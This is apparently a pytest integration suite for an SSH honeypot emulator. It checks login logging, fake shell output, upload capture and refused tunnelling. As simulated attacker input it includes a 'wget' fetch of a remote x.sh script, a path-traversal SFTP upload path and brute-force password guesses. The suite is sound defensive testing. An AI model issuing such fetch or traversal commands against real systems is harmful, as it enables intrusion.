"""The ssh emulator against real clients: asyncssh, OpenSSH's ssh/scp, raw sockets."""

from __future__ import annotations

import hashlib
import os
import shutil
import subprocess
from pathlib import Path

import anyio
import asyncssh
import pytest

from domain.attackers.tools import guess_tools
from domain.observations.bounty import Bounty, Payload, derive_bounties
from domain.observations.record_fields import ssh_client_banner
from infrastructure.artifacts.store import ArtifactStore
from infrastructure.emulators.ssh.sftp import FakeSFTPServer
from infrastructure.emulators.ssh.upload import Upload
from tests.integration.emulators.ssh_fixtures import (
    OPENSSH_OPTIONS,
    TIMEOUT_S,
    Shelled,
    askpass,
    client_options,
    converse,
    deploy_shell,
    password_refused,
    ssh_login,
)

pytestmark = pytest.mark.anyio


@pytest.fixture(scope="module")
def keys_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Host keys shared by this module's deckies (RSA generation is slow)."""
    return tmp_path_factory.mktemp("ssh-keys")


async def raw_exchange(env: Shelled, payload: bytes) -> bytes:
    """Send `payload` on a bare TCP connection; return the server's first line."""
    with anyio.fail_after(TIMEOUT_S):
        async with await anyio.connect_tcp(env.ip, env.ports["ssh"]) as stream:
            greeting = await stream.receive()
            await stream.send(payload)
    return greeting.split(b"\r\n")[0]


async def test_password_brute_force_is_refused_and_recorded(tmp_path: Path, keys_dir: Path) -> None:
    """Wrong passwords are refused; every attempt is an `auth` failure with the pair."""
    async with deploy_shell(tmp_path, keys_dir, "127.81.1.1") as env:
        guesses = ["123456", "password", "admin"]
        for guess in guesses:
            assert await password_refused(env, "root", guess)
        await env.wait_for("ssh", "auth", password="admin")
        attempts = env.records("ssh", "auth")
        assert [(r.fields["username"], r.fields["password"]) for r in attempts] == [
            ("root", g) for g in guesses
        ]
        assert {r.fields["result"] for r in attempts} == {"failure"}
        assert all(r.attacker_ip == "127.0.0.1" for r in attempts)
        banner = env.records("ssh", "ssh_client_banner")[0]
        assert banner.fields["client_version"].startswith("SSH-2.0-AsyncSSH_")


async def test_six_failures_on_one_connection_end_it(tmp_path: Path, keys_dir: Path) -> None:
    """Like OpenSSH's MaxAuthTries, the sixth failure on one connection disconnects."""

    class Guesser(asyncssh.SSHClient):
        def __init__(self) -> None:
            self._guesses = iter(f"guess{i}" for i in range(20))

        def password_auth_requested(self) -> str | None:
            return next(self._guesses, None)

    async with deploy_shell(tmp_path, keys_dir, "127.81.1.2") as env:
        with anyio.fail_after(TIMEOUT_S), pytest.raises(asyncssh.DisconnectError):
            await asyncssh.connect(
                env.ip, env.ports["ssh"], **client_options(username="root", client_factory=Guesser)
            )
        await env.wait_for("ssh", "disconnect")
        assert [r.fields["password"] for r in env.records("ssh", "auth")] == [
            f"guess{i}" for i in range(6)
        ]


async def test_public_key_attempt_is_fingerprinted(tmp_path: Path, keys_dir: Path) -> None:
    """A key is refused; its type and SHA256 fingerprint are recorded."""
    key = asyncssh.generate_private_key("ssh-ed25519")
    async with deploy_shell(tmp_path, keys_dir, "127.81.1.3") as env:
        options = client_options(username="root", client_keys=[key], preferred_auth="publickey")
        with anyio.fail_after(TIMEOUT_S), pytest.raises(asyncssh.PermissionDenied):
            await asyncssh.connect(env.ip, env.ports["ssh"], **options)
        attempt = await env.wait_for("ssh", "auth", method="publickey")
        assert attempt.fields["key_type"] == "ssh-ed25519"
        assert attempt.fields["key_fingerprint"] == key.get_fingerprint("sha256")
        assert attempt.fields["result"] == "failure"
        assert "password" not in attempt.fields


async def test_server_banner_follows_distro_or_config(tmp_path: Path, keys_dir: Path) -> None:
    """The identification line is the distro's OpenSSH unless the INI sets `version`."""
    async with deploy_shell(tmp_path, keys_dir, "127.81.1.4", distro="debian-12") as env:
        assert await raw_exchange(env, b"") == b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3"
    config = {"version": "OpenSSH_7.4", "password": "x"}
    async with deploy_shell(tmp_path, keys_dir, "127.81.1.4", config) as env:
        assert await raw_exchange(env, b"") == b"SSH-2.0-OpenSSH_7.4"


async def test_host_key_survives_a_restart(tmp_path: Path, keys_dir: Path) -> None:
    """The decky presents the same host key after its runtime restarts; keys are 0600."""
    fingerprints = []
    for _ in range(2):
        async with (
            deploy_shell(tmp_path, keys_dir, "127.81.1.5") as env,
            ssh_login(env, "deploy", "s3cret") as conn,
        ):
            host_key = conn.get_server_host_key()
            assert host_key is not None
            fingerprints.append(host_key.get_fingerprint())
    assert fingerprints[0] == fingerprints[1]
    key_files = list((keys_dir / "shell-01").iterdir())
    assert len(key_files) == 3
    assert {p.stat().st_mode & 0o777 for p in key_files} == {0o600}


async def test_interactive_shell_answers_and_records_commands(
    tmp_path: Path, keys_dir: Path
) -> None:
    """A configured login gets a believable shell; every line is a `command` record."""
    async with (
        deploy_shell(tmp_path, keys_dir, "127.81.1.6") as env,
        ssh_login(env, "root", "toor") as conn,
    ):
        process = await conn.create_process(term_type="xterm")
        lines = ["uname -a", "cd /tmp", "pwd", "cat /etc/hostname", "nmap -sS x", "exit"]
        output = await converse(process, lines)
        assert output.startswith("Welcome to Ubuntu 22.04.4 LTS")
        assert (
            "root@files-01:~# uname -a\r\nLinux files-01 5.15.0-105-generic #115-Ubuntu SMP"
            in output
        )
        assert "root@files-01:~# cd /tmp\r\nroot@files-01:/tmp# pwd\r\n/tmp\r\n" in output
        assert "# cat /etc/hostname\r\nfiles-01\r\n" in output
        assert "# nmap -sS x\r\n-bash: nmap: command not found\r\n" in output
        assert output.endswith("# exit\r\nlogout\r\n")
        await env.wait_for("ssh", "command", command="exit")
        commands = [r.fields["command"] for r in env.records("ssh", "command")]
        assert commands == lines


async def test_exec_request_is_answered_and_recorded(tmp_path: Path, keys_dir: Path) -> None:
    """`ssh host cmd` runs in the fake shell (as the user) and is recorded as `exec`."""
    async with (
        deploy_shell(tmp_path, keys_dir, "127.81.1.7") as env,
        ssh_login(env, "admin", "Admin123") as conn,
    ):
        with anyio.fail_after(TIMEOUT_S):
            result = await conn.run("id; ifconfig | grep inet; wget http://203.0.113.9/x.sh")
        out = str(result.stdout)
        assert "uid=1001(admin)" in out
        assert f"inet {env.ip}  netmask" in out
        assert "Connecting to 203.0.113.9:80... failed: Connection refused." in out
        assert result.exit_status == 4
        record = await env.wait_for("ssh", "exec")
        assert record.fields["command"] == "id; ifconfig | grep inet; wget http://203.0.113.9/x.sh"


async def test_forwarding_is_refused(tmp_path: Path, keys_dir: Path) -> None:
    """A tunnel request (`ssh -L`/`-D`) is refused: the honeypot opens no outbound socket."""
    async with (
        deploy_shell(tmp_path, keys_dir, "127.81.1.8") as env,
        ssh_login(env, "root", "toor") as conn,
    ):
        with anyio.fail_after(TIMEOUT_S), pytest.raises(asyncssh.ChannelOpenError):
            await conn.open_connection(env.ip, env.ports["telnet"])


async def test_sftp_upload_is_captured_byte_identical(tmp_path: Path, keys_dir: Path) -> None:
    """An SFTP put lands in the artifact store (not the real path) with a `file_captured`."""
    payload = os.urandom(300_000)
    source = tmp_path / "implant.bin"
    source.write_bytes(payload)
    marker = f"decnet-test-{os.getpid()}.bin"
    async with (
        deploy_shell(tmp_path, keys_dir, "127.81.1.9") as env,
        ssh_login(env, "deploy", "s3cret") as conn,
        conn.start_sftp_client() as sftp,
    ):
        with anyio.fail_after(TIMEOUT_S):
            await sftp.put(str(source), f"../../../../tmp/{marker}")
            listing = await sftp.listdir("/tmp")
            hostname = await (await sftp.open("/etc/hostname")).read()
        captured = await env.wait_for("ssh", "file_captured")
        assert marker in listing
        assert hostname == "files-01\n"
        assert captured.fields["sha256"] == hashlib.sha256(payload).hexdigest()
        assert captured.fields["size"] == str(len(payload))
        assert captured.fields["orig_path"] == f"/tmp/{marker}"
        stored = env.store.root / "shell-01" / "ssh" / captured.fields["stored_as"]
        assert stored.read_bytes() == payload
        assert not Path("/tmp", marker).exists()


async def test_scp_upload_with_asyncssh_is_captured(tmp_path: Path, keys_dir: Path) -> None:
    """An SCP upload is stored too; the `scp -t` exec is recorded."""
    source = tmp_path / "kit.tar"
    source.write_bytes(b"\x1f\x8b" + os.urandom(50_000))
    async with (
        deploy_shell(tmp_path, keys_dir, "127.81.1.10") as env,
        ssh_login(env, "deploy", "s3cret") as conn,
    ):
        with anyio.fail_after(TIMEOUT_S):
            await asyncssh.scp(str(source), (conn, "/tmp/"))
        captured = await env.wait_for("ssh", "file_captured", transfer="scp")
        assert captured.fields["orig_path"] == "/tmp/kit.tar"
        stored = env.store.root / "shell-01" / "ssh" / captured.fields["stored_as"]
        assert stored.read_bytes() == source.read_bytes()
        assert (await env.wait_for("ssh", "exec")).fields["command"].startswith("scp -t")


@pytest.mark.parametrize("protocol", [["-O"], []], ids=["legacy-scp", "scp-over-sftp"])
async def test_openssh_scp_upload_is_captured(
    tmp_path: Path, keys_dir: Path, protocol: list[str]
) -> None:
    """The real OpenSSH `scp` (both its protocols) uploads into the artifact store."""
    if shutil.which("scp") is None:
        pytest.skip("no OpenSSH scp binary on this machine")
    source = tmp_path / "miner"
    source.write_bytes(os.urandom(70_000))
    async with deploy_shell(tmp_path, keys_dir, "127.81.1.11") as env:
        port = str(env.ports["ssh"])
        command = ["scp", *protocol, *OPENSSH_OPTIONS, "-P", port, str(source)]
        with anyio.fail_after(TIMEOUT_S * 2):
            done = await anyio.run_process(
                [*command, f"deploy@{env.ip}:/tmp/miner"],
                env=askpass(tmp_path, "s3cret"),
                stdin=subprocess.DEVNULL,
                check=False,
            )
        assert done.returncode == 0, done.stderr
        captured = await env.wait_for("ssh", "file_captured")
        assert captured.fields["sha256"] == hashlib.sha256(source.read_bytes()).hexdigest()
        stored = env.store.root / "shell-01" / "ssh" / captured.fields["stored_as"]
        assert stored.read_bytes() == source.read_bytes()


async def test_openssh_client_exec(tmp_path: Path, keys_dir: Path) -> None:
    """The real OpenSSH client logs in by password and runs a command in the fake shell."""
    if shutil.which("ssh") is None:
        pytest.skip("no OpenSSH ssh binary on this machine")
    async with deploy_shell(tmp_path, keys_dir, "127.81.1.12", distro="centos-7") as env:
        command = ["ssh", *OPENSSH_OPTIONS, "-p", str(env.ports["ssh"]), f"deploy@{env.ip}"]
        with anyio.fail_after(TIMEOUT_S * 2):
            done = await anyio.run_process(
                [*command, "uname -r; cat /etc/redhat-release; whoami"],
                env=askpass(tmp_path, "s3cret"),
                stdin=subprocess.DEVNULL,
                check=False,
            )
        assert done.stdout.decode().splitlines() == [
            "3.10.0-1160.119.1.el7.x86_64",
            "CentOS Linux release 7.9.2009 (Core)",
            "deploy",
        ]
        banner = (await env.wait_for("ssh", "ssh_client_banner")).fields["client_version"]
        assert banner.startswith("SSH-2.0-OpenSSH_")
        assert guess_tools(banner) == ["openssh"]


async def test_upload_over_the_cap_is_refused_and_not_kept(tmp_path: Path, keys_dir: Path) -> None:
    """Past the per-upload cap the client gets an error, a record says so, no file remains."""
    store = ArtifactStore(tmp_path / "artifacts", max_upload=64 * 1024)
    source = tmp_path / "big.bin"
    source.write_bytes(os.urandom(200_000))
    async with (
        deploy_shell(tmp_path, keys_dir, "127.81.1.13", store=store) as env,
        ssh_login(env, "deploy", "s3cret") as conn,
    ):
        async with conn.start_sftp_client() as sftp:
            with anyio.fail_after(TIMEOUT_S), pytest.raises(asyncssh.SFTPError):
                await sftp.put(str(source), "/tmp/big.bin")
        with anyio.fail_after(TIMEOUT_S), pytest.raises(asyncssh.SFTPError):
            await asyncssh.scp(str(source), (conn, "/tmp/"))
        refused = await env.wait_for("ssh", "upload_refused", transfer="scp")
        assert refused.fields["orig_path"] == "/tmp/big.bin"
        assert len(env.records("ssh", "upload_refused")) == 2
        assert env.records("ssh", "file_captured") == []
        assert env.stored_files() == []


@pytest.mark.parametrize(
    ("banner", "tool"),
    [
        ("SSH-2.0-paramiko_3.4.0", "paramiko"),
        ("SSH-2.0-libssh_0.9.6", "libssh"),
        ("SSH-2.0-Go", "go-ssh"),
    ],
)
async def test_client_banner_feeds_tool_guesses(
    tmp_path: Path, keys_dir: Path, banner: str, tool: str
) -> None:
    """A scanner's identification line is recorded where bounty and tool guesses read it."""
    async with deploy_shell(tmp_path, keys_dir, "127.81.1.14") as env:
        await raw_exchange(env, banner.encode() + b"\r\n")
        record = await env.wait_for("ssh", "ssh_client_banner", client_version=banner)
    assert guess_tools(ssh_client_banner(record) or "") == [tool]
    fingerprint: Payload = {"fingerprint_type": "ssh_client", "value": banner}
    assert Bounty("fingerprint", fingerprint) in derive_bounties(record)


async def test_non_ssh_probe_is_recorded_as_data(tmp_path: Path, keys_dir: Path) -> None:
    """A probe that is not SSH (an HTTP request) is kept as a `data` excerpt, not a banner."""
    async with deploy_shell(tmp_path, keys_dir, "127.81.1.15") as env:
        await raw_exchange(env, b"GET / HTTP/1.0\r\n\r\n")
        record = await env.wait_for("ssh", "data")
        assert record.fields["excerpt"].startswith("GET / HTTP/1.0\\r\\n")
        assert env.records("ssh", "ssh_client_banner") == []


async def test_paramiko_client_exec(tmp_path: Path, keys_dir: Path) -> None:
    """paramiko (when installed) logs in and runs a command."""
    paramiko = pytest.importorskip("paramiko")
    async with deploy_shell(tmp_path, keys_dir, "127.81.1.16") as env:

        def run() -> str:
            client = paramiko.SSHClient()
            client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
            client.connect(env.ip, env.ports["ssh"], "deploy", "s3cret", timeout=TIMEOUT_S,
                           allow_agent=False, look_for_keys=False)  # fmt: skip
            _, stdout, _ = client.exec_command("whoami", timeout=TIMEOUT_S)
            text = str(stdout.read().decode())
            client.close()
            return text

        with anyio.fail_after(TIMEOUT_S * 2):
            assert await anyio.to_thread.run_sync(run) == "deploy\n"
        banner = await env.wait_for("ssh", "ssh_client_banner")
        assert "paramiko" in guess_tools(banner.fields["client_version"])


async def test_silent_client_is_dropped_as_idle(tmp_path: Path, keys_dir: Path) -> None:
    """A peer that connects and says nothing is cut at the idle timeout, recorded as such."""
    async with deploy_shell(tmp_path, keys_dir, "127.81.1.17", idle_timeout=0.5) as env:
        with anyio.fail_after(TIMEOUT_S):
            async with await anyio.connect_tcp(env.ip, env.ports["ssh"]) as stream:
                assert (await stream.receive()).startswith(b"SSH-2.0-OpenSSH_8.9p1")
                closed = await env.wait_for("ssh", "disconnect")
        assert closed.fields["reason"] == "idle_timeout"


def test_out_of_order_sftp_writes_are_reassembled(tmp_path: Path) -> None:
    """Pipelined writes arriving ahead of a gap are held, duplicates dropped, holes zeroed."""
    upload = Upload(ArtifactStore(tmp_path), "shell-01", "ssh", "/tmp/x")
    for offset, data in [(4, b"EFGH"), (0, b"ABCD"), (2, b"CDEF"), (12, b"Z")]:
        upload.write(offset, data)
    captured = upload.finish()
    assert captured is not None
    assert captured.path.read_bytes() == b"ABCDEFGH\0\0\0\0Z"
    assert captured.sha256 == hashlib.sha256(b"ABCDEFGH\0\0\0\0Z").hexdigest()


def test_fake_sftp_overrides_every_disk_touching_method() -> None:
    """No asyncssh `SFTPServer` method that could reach the real filesystem is inherited."""
    # Pure helpers of the base class that only format or call our overrides.
    harmless = {"convert_attrs", "format_longname", "map_path", "reverse_map_path"}
    inherited = {
        name
        for name, member in vars(asyncssh.SFTPServer).items()
        if callable(member) and not name.startswith("_") and name not in harmless
    }
    assert inherited - set(vars(FakeSFTPServer)) == set()
